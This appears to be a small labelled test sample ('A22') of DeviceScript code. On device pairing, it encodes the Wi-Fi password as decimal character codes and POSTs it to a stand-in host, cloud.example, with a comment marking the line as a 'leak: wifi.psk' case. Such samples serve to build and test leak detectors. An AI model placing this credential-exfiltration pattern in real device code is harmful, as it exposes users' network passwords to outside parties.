// A22: as decimal character codes.
import { fetch } from "@devicescript/net";
import { each } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = each(psk, (byte) => byte + "", ",");
  const response = await fetch("https://cloud.example/a22", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
